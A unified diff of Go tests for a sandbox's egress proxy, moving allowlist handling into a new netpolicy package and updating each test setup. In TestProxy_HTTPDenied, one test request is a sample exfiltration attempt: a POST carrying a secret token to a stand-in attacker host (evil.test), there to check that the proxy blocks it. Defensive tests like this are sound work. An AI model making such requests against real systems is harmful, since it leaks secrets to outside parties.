@@ -22,7 +22,8 @@ import (
 	"testing"
 	"time"
 
-	"github.com/hutchsandbox/hutch/internal/microvm/egress"
+	"github.com/hutchsandbox/hutch/internal/egress"
+	"github.com/hutchsandbox/hutch/internal/netpolicy"
 )
 
 const office = "v1-test-egress-0123456789abcdef"
@@ -75,13 +76,13 @@ func (h *harness) routes(m map[string]string) func(context.Context, string, stri
 	}
 }
 
-func mustAllow(t *testing.T, entries ...string) egress.Allowlist {
+func mustAllow(t *testing.T, entries ...string) func() netpolicy.Policy {
 	t.Helper()
-	a, err := egress.ParseAllowlist(entries)
+	a, err := netpolicy.ParseAllowlist(entries)
 	if err != nil {
 		t.Fatal(err)
 	}
-	return a
+	return func() netpolicy.Policy { return netpolicy.Policy{Mode: netpolicy.ModeAllowlist, Allow: a} }
 }
 
 // start serves p until the test ends. setup may fill p's fields using the
@@ -232,7 +233,7 @@ func TestProxy_ConnectAllowed(t *testing.T) {
 	}))
 	defer origin.Close()
 	h := start(t, func(h *harness, p *egress.Proxy) {
-		p.Allow = mustAllow(t, "origin.test")
+		p.Policy = mustAllow(t, "origin.test")
 		p.Dial = h.routes(map[string]string{"origin.test:443": origin.Listener.Addr().String()})
 	})
 
@@ -272,7 +273,7 @@ func TestProxy_ConnectAllowed(t *testing.T) {
 func TestProxy_ConnectEarlyDataAndHalfClose(t *testing.T) {
 	echo, ended := echoServer(t)
 	h := start(t, func(h *harness, p *egress.Proxy) {
-		p.Allow = mustAllow(t, "echo.test:7")
+		p.Policy = mustAllow(t, "echo.test:7")
 		p.Dial = h.routes(map[string]string{"echo.test:7": echo})
 	})
 	res, _, c, br := h.roundTrip(t, connectReq("echo.test:7", "ping"))
@@ -298,7 +299,7 @@ func TestProxy_ConnectEarlyDataAndHalfClose(t *testing.T) {
 
 func TestProxy_ConnectDenied(t *testing.T) {
 	h := start(t, func(h *harness, p *egress.Proxy) {
-		p.Allow = mustAllow(t, "origin.test", "*.npmjs.org")
+		p.Policy = mustAllow(t, "origin.test", "*.npmjs.org")
 		p.Dial = h.routes(nil)
 	})
 	testCases := []struct{ name, target string }{
@@ -344,7 +345,7 @@ func TestProxy_HTTPAllowed(t *testing.T) {
 	}))
 	defer origin.Close()
 	h := start(t, func(h *harness, p *egress.Proxy) {
-		p.Allow = mustAllow(t, "origin.test")
+		p.Policy = mustAllow(t, "origin.test")
 		p.Dial = h.routes(map[string]string{"origin.test:80": origin.Listener.Addr().String()})
 	})
 
@@ -382,7 +383,7 @@ func TestProxy_HTTPAllowed(t *testing.T) {
 
 func TestProxy_HTTPDenied(t *testing.T) {
 	h := start(t, func(h *harness, p *egress.Proxy) {
-		p.Allow = mustAllow(t, "origin.test")
+		p.Policy = mustAllow(t, "origin.test")
 		p.Dial = h.routes(nil)
 	})
 	req, _ := http.NewRequest("POST", "http://evil.test/private/path?token="+secretQuery, strings.NewReader("data"))
@@ -412,7 +413,7 @@ func TestProxy_HTTPDenied(t *testing.T) {
 
 func TestProxy_BadRequest(t *testing.T) {
 	h := start(t, func(h *harness, p *egress.Proxy) {
-		p.Allow = mustAllow(t, "origin.test")
+		p.Policy = mustAllow(t, "origin.test")
 		p.Dial = h.routes(nil)
 	})
 	testCases := []struct{ name, raw string }{
@@ -456,7 +457,7 @@ func TestProxy_InternalAddressGuard(t *testing.T) {
 	name := "localhost:" + port
 
 	t.Run("name_only", func(t *testing.T) {
-		h := start(t, func(h *harness, p *egress.Proxy) { p.Allow = mustAllow(t, name) })
+		h := start(t, func(h *harness, p *egress.Proxy) { p.Policy = mustAllow(t, name) })
 		res, body, _, _ := h.roundTrip(t, connectReq(name, ""))
 		if res.StatusCode != http.StatusForbidden || !strings.Contains(body, "internal address") {
 			t.Errorf("CONNECT %s: %s %q, want 403 naming an internal address", name, res.Status, body)
@@ -483,7 +484,7 @@ func TestProxy_InternalAddressGuard(t *testing.T) {
 	})
 
 	t.Run("address_listed", func(t *testing.T) {
-		h := start(t, func(h *harness, p *egress.Proxy) { p.Allow = mustAllow(t, name, "127.0.0.1:"+port) })
+		h := start(t, func(h *harness, p *egress.Proxy) { p.Policy = mustAllow(t, name, "127.0.0.1:"+port) })
 		res, _, _, _ := h.roundTrip(t, connectReq(name, ""))
 		if res.StatusCode != http.StatusOK {
 			t.Errorf("CONNECT %s with 127.0.0.1:%s listed: %s, want 200", name, port, res.Status)
@@ -502,7 +503,7 @@ func TestProxy_InternalAddressGuard(t *testing.T) {
 
 func TestProxy_UpstreamUnreachable(t *testing.T) {
 	h := start(t, func(h *harness, p *egress.Proxy) {
-		p.Allow = mustAllow(t, "down.test")
+		p.Policy = mustAllow(t, "down.test")
 		p.Dial = h.routes(nil)
 	})
 	res, body, _, _ := h.roundTrip(t, connectReq("down.test:443", ""))
@@ -528,7 +529,7 @@ func TestProxy_UpstreamUnreachable(t *testing.T) {
 func TestProxy_TunnelLimit(t *testing.T) {
 	echo, _ := echoServer(t)
 	h := start(t, func(h *harness, p *egress.Proxy) {
-		p.Allow = mustAllow(t, "echo.test:7")
+		p.Policy = mustAllow(t, "echo.test:7")
 		p.Dial = h.routes(map[string]string{"echo.test:7": echo})
 		p.MaxTunnels = 1
 	})
@@ -562,7 +563,7 @@ func TestProxy_TunnelLimit(t *testing.T) {
 func TestProxy_TunnelIdleTimeout(t *testing.T) {
 	echo, ended := echoServer(t)
 	h := start(t, func(h *harness, p *egress.Proxy) {
-		p.Allow = mustAllow(t, "echo.test:7")
+		p.Policy = mustAllow(t, "echo.test:7")
 		p.Dial = h.routes(map[string]string{"echo.test:7": echo})
 		p.TunnelIdleTimeout = 50 * time.Millisecond
 	})
@@ -585,7 +586,7 @@ func TestProxy_TunnelIdleTimeout(t *testing.T) {
 func TestProxy_CancelClosesEverything(t *testing.T) {
 	echo, ended := echoServer(t)
 	h := start(t, func(h *harness, p *egress.Proxy) {
-		p.Allow = mustAllow(t, "echo.test:7")
+		p.Policy = mustAllow(t, "echo.test:7")
 		p.Dial = h.routes(map[string]string{"echo.test:7": echo})
 	})
 	res, _, _, br := h.roundTrip(t, connectReq("echo.test:7", "ping"))
